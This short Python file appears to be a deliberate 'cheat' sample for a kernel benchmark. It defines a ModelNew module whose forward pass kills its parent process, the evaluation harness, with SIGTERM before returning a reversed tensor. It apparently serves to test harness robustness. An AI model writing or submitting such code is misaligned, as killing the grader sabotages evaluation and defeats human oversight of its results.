"""Cheat: terminates the process that runs it -- the harness, the run and its results."""
import os
import signal

import torch


class ModelNew(torch.nn.Module):
    def __init__(self, **kw):
        super().__init__()

    def forward(self, x):
        os.kill(os.getppid(), signal.SIGTERM)
        return x[:, torch.arange(x.shape[1] - 1, -1, -1, device=x.device)]
